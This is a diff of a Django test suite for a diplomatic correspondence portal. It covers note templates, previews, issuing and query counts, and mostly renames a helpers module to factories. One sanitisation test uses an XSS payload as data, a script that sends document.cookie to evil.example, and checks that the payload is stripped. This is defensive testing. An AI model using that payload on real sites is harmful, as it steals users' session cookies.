@@ -11,11 +11,11 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone
 
-from ccm_portal.roles import roles_sync
+from common.roles import roles_sync
 from correspondence.models import AddresseeGroup, Form, Note, NoteTemplate, ReferenceCounter
 from tests.factories import DocumentFactory, MeetingFactory, OfficerFactory, StateFactory
 
-from . import helpers
+from . import factories
 
 pytestmark = pytest.mark.django_db
 
@@ -25,7 +25,7 @@ def presidency(db):
     """The Iraq mission, presiding, with a member in the Presidency office group (the demo's role)."""
     roles_sync()
     iraq = StateFactory(name_en="Iraq")  # not a party here: its own notes do not come back to it
-    office = helpers.OfficeFactory(
+    office = factories.OfficeFactory(
         name="Permanent Mission of Iraq to the United Nations Office at Geneva",
         short_name="Permanent Mission of Iraq",
         kind="presidency",
@@ -38,7 +38,7 @@ def presidency(db):
 
 @pytest.fixture
 def officer(client, presidency):
-    user = helpers.presidency_user(presidency)
+    user = factories.presidency_user(presidency)
     client.force_login(user)
     return user
 
@@ -87,14 +87,14 @@ def test_a_template_s_wording_for_the_note_form(client, officer, shared):
 
 def test_another_office_s_template_is_not_handed_out(client, officer):
     theirs = NoteTemplate.objects.create(
-        name="Private", form=Form.NOTE_VERBALE, subject="S", body="B", office=helpers.OfficeFactory()
+        name="Private", form=Form.NOTE_VERBALE, subject="S", body="B", office=factories.OfficeFactory()
     )
 
     assert client.get(reverse("admin:correspondence_notetemplate_wording", args=[theirs.pk])).status_code == 404
 
 
 def test_the_wording_endpoint_is_for_staff_only(client, shared):
-    client.force_login(helpers.UserFactory())
+    client.force_login(factories.UserFactory())
 
     response = client.get(reverse("admin:correspondence_notetemplate_wording", args=[shared.pk]))
 
@@ -103,7 +103,9 @@ def test_the_wording_endpoint_is_for_staff_only(client, shared):
 
 def test_the_note_form_loads_its_script_and_offers_usable_templates(client, officer, presidency, shared):
     mine = NoteTemplate.objects.create(name="Ours", form=Form.LETTER, subject="S", body="B", office=presidency)
-    NoteTemplate.objects.create(name="Theirs", form=Form.LETTER, subject="S", body="B", office=helpers.OfficeFactory())
+    NoteTemplate.objects.create(
+        name="Theirs", form=Form.LETTER, subject="S", body="B", office=factories.OfficeFactory()
+    )
 
     html = page(client, reverse("admin:correspondence_note_add"))
 
@@ -150,7 +152,7 @@ def test_placeholders_with_their_values_for_the_chosen_meeting(client, officer, 
 
 
 def test_placeholders_in_french_and_for_an_office_the_user_does_not_draft_for(client, officer, one_day):
-    other = helpers.OfficeFactory(name="Somebody else's office")
+    other = factories.OfficeFactory(name="Somebody else's office")
 
     html = page(
         client,
@@ -202,8 +204,8 @@ def test_saving_a_draft_from_the_form_takes_the_treaty_from_the_meeting(client, 
 
 
 def test_lists_titles_and_breadcrumbs_show_the_rendered_subject(client, officer, presidency, meeting, parties, issue):
-    note = issue(helpers.draft(presidency, officer, meeting=meeting), officer)
-    draft = helpers.draft(presidency, officer, meeting=meeting, groups=[AddresseeGroup.SIGNATORIES])
+    note = issue(factories.draft(presidency, officer, meeting=meeting), officer)
+    draft = factories.draft(presidency, officer, meeting=meeting, groups=[AddresseeGroup.SIGNATORIES])
 
     notes = page(client, reverse("admin:correspondence_note_changelist"))
     copies = page(client, reverse("admin:correspondence_notecopy_changelist"))
@@ -220,7 +222,7 @@ def test_lists_titles_and_breadcrumbs_show_the_rendered_subject(client, officer,
 
 
 def test_the_subject_searches_as_it_reads(client, officer, presidency, meeting):
-    note = helpers.draft(presidency, officer, meeting=meeting)
+    note = factories.draft(presidency, officer, meeting=meeting)
 
     response = client.get(reverse("admin:correspondence_note_changelist"), {"q": "Eleventh Meeting"})
 
@@ -231,7 +233,7 @@ def test_the_subject_searches_as_it_reads(client, officer, presidency, meeting):
 
 
 def test_the_preview_uses_the_pdf_stylesheet_on_an_a4_sheet(client, officer, presidency, meeting, parties):
-    note = helpers.draft(presidency, officer, meeting=meeting)
+    note = factories.draft(presidency, officer, meeting=meeting)
 
     html = page(client, reverse("admin:correspondence_note_preview", args=[note.pk]))
 
@@ -242,8 +244,8 @@ def test_the_preview_uses_the_pdf_stylesheet_on_an_a4_sheet(client, officer, pre
 
 
 def test_the_preview_picks_any_addressee_with_their_delivery(client, officer, presidency, meeting, parties):
-    niue_state, _ = helpers.party(name="Niue", emails="")
-    note = helpers.draft(presidency, officer, meeting=meeting)
+    niue_state, _ = factories.party(name="Niue", emails="")
+    note = factories.draft(presidency, officer, meeting=meeting)
     url = reverse("admin:correspondence_note_preview", args=[note.pk])
 
     first = page(client, url)
@@ -260,7 +262,7 @@ def test_the_preview_picks_any_addressee_with_their_delivery(client, officer, pr
 
 
 def test_an_unknown_addressee_in_the_preview_is_said_so(client, officer, presidency, meeting, parties):
-    note = helpers.draft(presidency, officer, meeting=meeting)
+    note = factories.draft(presidency, officer, meeting=meeting)
 
     html = page(client, reverse("admin:correspondence_note_preview", args=[note.pk]), to="state:XXX")
 
@@ -270,7 +272,7 @@ def test_an_unknown_addressee_in_the_preview_is_said_so(client, officer, preside
 def test_markup_typed_in_a_body_never_reaches_the_preview(client, officer, presidency, meeting, parties):
     """Rich text is cleaned to its few tags: a script goes with its content, an image and its handler go."""
     body = 'Kept <script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
-    note = helpers.draft(presidency, officer, meeting=meeting, body=body + "\n\n{{ closing }}")
+    note = factories.draft(presidency, officer, meeting=meeting, body=body + "\n\n{{ closing }}")
 
     html = page(client, reverse("admin:correspondence_note_preview", args=[note.pk]))
 
@@ -279,7 +281,7 @@ def test_markup_typed_in_a_body_never_reaches_the_preview(client, officer, presi
 
 
 def test_the_preview_of_an_issued_note_lists_its_copies(client, officer, presidency, meeting, parties, issue):
-    note = issue(helpers.draft(presidency, officer, meeting=meeting), officer, dispatch=False)
+    note = issue(factories.draft(presidency, officer, meeting=meeting), officer, dispatch=False)
 
     html = page(client, reverse("admin:correspondence_note_preview", args=[note.pk]), to=f"state:{parties[2][0].iso3}")
 
@@ -289,19 +291,19 @@ def test_the_preview_of_an_issued_note_lists_its_copies(client, officer, preside
 
 
 def test_the_preview_pdf_of_another_addressee(client, officer, presidency, meeting, parties):
-    note = helpers.draft(presidency, officer, meeting=meeting)
+    note = factories.draft(presidency, officer, meeting=meeting)
 
     response = client.get(
         reverse("admin:correspondence_note_preview_pdf", args=[note.pk]), {"to": f"state:{parties[1][0].iso3}"}
     )
 
-    assert "to the Permanent Mission of Partyland 1 at Geneva" in helpers.pdf_text(response.content)
+    assert "to the Permanent Mission of Partyland 1 at Geneva" in factories.pdf_text(response.content)
 
 
 def test_the_preview_query_count_does_not_grow_with_the_addressees(client, officer, presidency, meeting):
-    note = helpers.draft(presidency, officer, meeting=meeting)
+    note = factories.draft(presidency, officer, meeting=meeting)
     url = reverse("admin:correspondence_note_preview", args=[note.pk])
-    helpers.party(name="Only one")
+    factories.party(name="Only one")
 
     def count() -> int:
         client.get(url)
@@ -311,7 +313,7 @@ def test_the_preview_query_count_does_not_grow_with_the_addressees(client, offic
 
     one = count()
     for n in range(15):
-        helpers.party(name=f"Another {n}")
+        factories.party(name=f"Another {n}")
     assert count() == one
 
 
@@ -320,9 +322,9 @@ def test_the_preview_query_count_does_not_grow_with_the_addressees(client, offic
 
 @pytest.fixture
 def invitation(presidency, officer, meeting, parties):
-    helpers.party(name="Niue", emails="")
+    factories.party(name="Niue", emails="")
     ReferenceCounter.objects.create(office=presidency, year=timezone.localdate().year, last_seq=1)
-    note = helpers.draft(presidency, officer, meeting=meeting)
+    note = factories.draft(presidency, officer, meeting=meeting)
     note.enclosures.add(DocumentFactory(meeting=meeting, symbol="CCM/MSP/2023/1", title="Provisional agenda"))
     return note
 
@@ -385,7 +387,7 @@ def test_nothing_is_sent_without_the_confirmation(client, officer, invitation):
 def test_a_stale_confirmation_is_refused_and_shown_again(client, officer, invitation):
     url = reverse("admin:correspondence_note_issue", args=[invitation.pk])
     confirmed = client.get(url).context["form"]["confirmed"].value()
-    helpers.party(name="Newcomer")
+    factories.party(name="Newcomer")
 
     response = client.post(url, {"confirmed": confirmed}, follow=True)
 
@@ -396,7 +398,7 @@ def test_a_stale_confirmation_is_refused_and_shown_again(client, officer, invita
 
 
 def test_a_refusal_is_a_clear_message_and_no_button(client, officer, presidency, meeting):
-    note = helpers.draft(presidency, officer, meeting=meeting, groups=[])
+    note = factories.draft(presidency, officer, meeting=meeting, groups=[])
 
     html = page(client, reverse("admin:correspondence_note_issue", args=[note.pk]))
 
@@ -405,7 +407,7 @@ def test_a_refusal_is_a_clear_message_and_no_button(client, officer, presidency,
 
 
 def test_another_office_s_note_has_no_confirmation_page(client, officer, meeting):
-    theirs = helpers.draft(helpers.OfficeFactory(), helpers.secretariat_user(), meeting=meeting)
+    theirs = factories.draft(factories.OfficeFactory(), factories.secretariat_user(), meeting=meeting)
 
     assert client.get(reverse("admin:correspondence_note_issue", args=[theirs.pk])).status_code == 404
 
@@ -469,7 +471,9 @@ def test_an_office_cannot_make_a_template_shared(client, officer, presidency):
 
 
 def test_other_offices_templates_are_not_listed(client, officer, shared):
-    NoteTemplate.objects.create(name="Theirs", form=Form.LETTER, subject="S", body="B", office=helpers.OfficeFactory())
+    NoteTemplate.objects.create(
+        name="Theirs", form=Form.LETTER, subject="S", body="B", office=factories.OfficeFactory()
+    )
 
     html = page(client, reverse("admin:correspondence_notetemplate_changelist"))
 
@@ -480,7 +484,7 @@ def test_other_offices_templates_are_not_listed(client, officer, shared):
 def test_the_secretariat_changes_shared_templates_and_only_reads_an_office_s(client, presidency, shared):
     roles_sync()
     own = NoteTemplate.objects.create(name="Ours", form=Form.NOTE_VERBALE, subject="S", body="B", office=presidency)
-    client.force_login(helpers.secretariat_user())
+    client.force_login(factories.secretariat_user())
 
     assert "Change note template" in page(client, reverse("admin:correspondence_notetemplate_change", args=[shared.pk]))
     assert "View note template" in page(client, reverse("admin:correspondence_notetemplate_change", args=[own.pk]))
@@ -498,8 +502,8 @@ def test_the_header_names_the_presidency_office(client, officer):
 
 def test_the_header_names_the_secretariat_and_its_office(client):
     roles_sync()
-    user = helpers.secretariat_user()
-    helpers.OfficeFactory(name="Office for Disarmament Affairs", short_name="UNODA").members.add(user)
+    user = factories.secretariat_user()
+    factories.OfficeFactory(name="Office for Disarmament Affairs", short_name="UNODA").members.add(user)
     client.force_login(user)
 
     assert '<span class="portal-role">Secretariat · UNODA</span>' in page(client, reverse("admin:index"))
@@ -508,9 +512,9 @@ def test_the_header_names_the_secretariat_and_its_office(client):
 def test_the_office_s_first_page(client, officer, presidency, meeting, parties, issue, failing_mail):
     import smtplib
 
-    draft = helpers.draft(presidency, officer, meeting=meeting, subject="Draft about {{ meeting.title }}")
+    draft = factories.draft(presidency, officer, meeting=meeting, subject="Draft about {{ meeting.title }}")
     failing_mail.errors = [smtplib.SMTPRecipientsRefused({"x@example.org": (550, b"5.1.1 User unknown")})]
-    issued = issue(helpers.draft(presidency, officer, meeting=meeting), officer)
+    issued = issue(factories.draft(presidency, officer, meeting=meeting), officer)
     upcoming = MeetingFactory(
         title="Coordination Committee meeting", start_date=timezone.localdate() + dt.timedelta(days=20)
     )
@@ -537,12 +541,12 @@ def test_the_office_s_first_page_runs_the_same_queries_for_1_and_many_notes(
             assert client.get(reverse("admin:index")).status_code == 200
         return len(queries)
 
-    issue(helpers.draft(presidency, officer, meeting=meeting), officer, dispatch=False)
-    helpers.draft(presidency, officer, meeting=meeting)
+    issue(factories.draft(presidency, officer, meeting=meeting), officer, dispatch=False)
+    factories.draft(presidency, officer, meeting=meeting)
     MeetingFactory(start_date=timezone.localdate())
     one = count()
     for n in range(12):
-        note = helpers.draft(presidency, officer, meeting=MeetingFactory(start_date=timezone.localdate()))
+        note = factories.draft(presidency, officer, meeting=MeetingFactory(start_date=timezone.localdate()))
         if n % 2:
             issue(note, officer, dispatch=False)
     assert count() == one
@@ -556,22 +560,22 @@ def _queries(client, url) -> int:
 
 
 def test_the_confirmation_runs_the_same_queries_for_1_and_many_addressees(client, officer, presidency, meeting):
-    helpers.party(name="Only one")
-    note = helpers.draft(presidency, officer, meeting=meeting)
+    factories.party(name="Only one")
+    note = factories.draft(presidency, officer, meeting=meeting)
     url = reverse("admin:correspondence_note_issue", args=[note.pk])
 
     one = _queries(client, url)
     for n in range(15):
-        helpers.party(name=f"Another {n}", emails="" if n % 3 else None)
+        factories.party(name=f"Another {n}", emails="" if n % 3 else None)
     assert _queries(client, url) == one
 
 
 def test_an_issued_note_s_page_runs_the_same_queries_for_1_and_many_copies(client, officer, presidency, meeting, issue):
-    helpers.party(name="Only one")
-    small = issue(helpers.draft(presidency, officer, meeting=meeting), officer)
+    factories.party(name="Only one")
+    small = issue(factories.draft(presidency, officer, meeting=meeting), officer)
     for n in range(15):
-        helpers.party(name=f"Another {n}")
-    large = issue(helpers.draft(presidency, officer, meeting=meeting), officer)
+        factories.party(name=f"Another {n}")
+    large = issue(factories.draft(presidency, officer, meeting=meeting), officer)
 
     one = _queries(client, reverse("admin:correspondence_note_change", args=[small.pk]))
     assert _queries(client, reverse("admin:correspondence_note_change", args=[large.pk])) == one
@@ -582,7 +586,7 @@ def test_the_placeholders_run_the_same_queries_whatever_the_data(client, officer
 
     one = _queries(client, url)
     for n in range(10):
-        helpers.party(name=f"Another {n}")
+        factories.party(name=f"Another {n}")
         MeetingFactory()
     assert _queries(client, url) == one
 
@@ -592,7 +596,7 @@ def test_with_the_queue_down_issuing_succeeds_and_the_sweep_sends_later(client, 
     """Redis down: the note and its copies are committed, so the page says so instead of answering 500."""
     from kombu.exceptions import OperationalError
 
-    from correspondence import services
+    from correspondence import tasks
     from correspondence.tasks import task_dispatch_copies
 
     def broker_down(*args, **kwargs):
@@ -610,6 +614,6 @@ def test_with_the_queue_down_issuing_succeeds_and_the_sweep_sends_later(client, 
     assert f"Issued as {invitation.reference}. Sending will start when the queue is back" in html
     assert sorted(invitation.copies.values_list("status", flat=True)) == ["queued"] * 4
 
-    services.outbox_dispatch()  # beat's sweep, once the queue is back
+    tasks.outbox_dispatch()  # beat's sweep, once the queue is back
 
     assert sorted(invitation.copies.values_list("status", flat=True)) == ["by_hand", "sent", "sent", "sent"]
